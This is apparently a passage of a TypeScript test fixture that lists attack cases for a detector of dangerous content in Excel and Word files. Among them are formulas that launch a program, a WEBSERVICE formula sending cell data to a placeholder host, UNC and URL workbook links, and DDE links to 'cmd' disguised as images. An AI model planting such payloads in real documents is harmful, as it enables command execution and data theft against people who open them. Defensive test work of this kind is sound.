            xmlPart('workbook', `<x:definedName>${PROGRAM}</x:definedName>`, S),
          ),
      ],
      ['a column', calculating('table', `<x:calculatedColumnFormula>${PROGRAM}</x:calculatedColumnFormula>`)],
      ['a chart', calculating('chartSpace', `<x:f>${PROGRAM}</x:f>`)],
      ['a colour scale', calculating('worksheet', `<x:cfvo type="formula" val="${PROGRAM}"/>`)],
      [
        'a linked object without a relationship',
        calculating('worksheet', `<x:oleObject progId="Package" link="${PROGRAM}"/>`),
      ],
      ['the text of a shape', calculating('wsDr', `<x:sp textlink="${PROGRAM}"/>`)],
      [
        'a list',
        () =>
          aWorkbook().part(
            'xl/part.xml',
            `<formControlPr xmlns="${S}" fmlaRange="${PROGRAM}"/>`,
            'application/xml',
          ),
      ],
    ] as const
  ).flatMap(([name, office]) => [
    attack('active-content', XLSX, `a formula that starts a program in ${name}`, office),
    attack('active-content', XLSX, `a formula that starts a program in ${name} of a large workbook`, () =>
      large(office(), 'xl'),
    ),
  ]),
  ...[
    '_xlfn.WEBSERVICE("http://h/"&amp;A1)',
    'webservice (A1)',
    '_xlfn.IMAGE("http://h/x.png")',
    "'\\\\host\\share\\[b.xlsx]S'!A1",
    "'http://host/[b.xlsx]S'!A1",
    '&apos;file:///x/[b.xlsx]S&apos;!A1',
  ].flatMap((formula) => [
    attack(
      'external-reference',
      XLSX,
      `a cell with ${formula}`,
      calculating('worksheet', `<x:f>${formula}</x:f>`),
    ),
    attack('external-reference', XLSX, `a cell of a large workbook with ${formula}`, () =>
      large(calculating('worksheet', `<x:f>${formula}</x:f>`)(), 'xl'),
    ),
  ]),
];

/** What is found though a policy tolerates what it is dressed up as, or what leads to it. */
const dressed: readonly Attack[] = [
  ...['ddeLink', 'oleLink'].flatMap((link) =>
    [
      ['externalLink', 'application/xml'],
      ['externalLink', 'image/png'],
      ['http://host/x', 'application/xml'],
      ['image', 'image/png'],
    ].map(([kind = '', contentType]): Attack => ({
      ...attack('active-content', XLSX, `a ${link} behind ${kind}, served as ${contentType}`, () =>
        aWorkbook()
          .part('xl/x.png', xmlPart('externalLink', `<x:${link} ddeService="cmd"/>`, S), contentType)
          .relate('xl/workbook.xml', kind, 'x.png'),
      ),
      claims: { policy: { allow: ['external-reference'] } },
    })),
  ),
  ...['ocx', 'customUI', 'webextension', 'taskpanes'].flatMap((root) =>
    ['ctrlProp', 'image', 'customXml'].map((kind) =>
      attack('active-content', DOCX, `a part ${root} behind ${kind}`, () =>
        aDocument(
          '<w:p><w:r><w:object><w:control r:id="rId1"/></w:object></w:r></w:p>'.repeat(
            kind === 'ctrlProp' ? 1 : 0,
          ),
        )
          .part('word/x.xml', xmlPart(root, '', 'http://schemas.microsoft.com/office/2006/activeX'))
          .relate(DOCUMENT, kind, 'x.xml'),
      ),
    ),
  ),
];

export const officeReferenceAttacks: readonly Attack[] = [
  ...hyperlinks,
  ...foreign,
  ...stories,
  ...byDefault,
  ...misused,
  ...labelled,
  ...refreshes,
  ...refreshAll,
  ...macros,
  ...actions,
  ...targets,
  ...modeless,
  ...addresses,
  ...formulas,
  ...dressed,
];
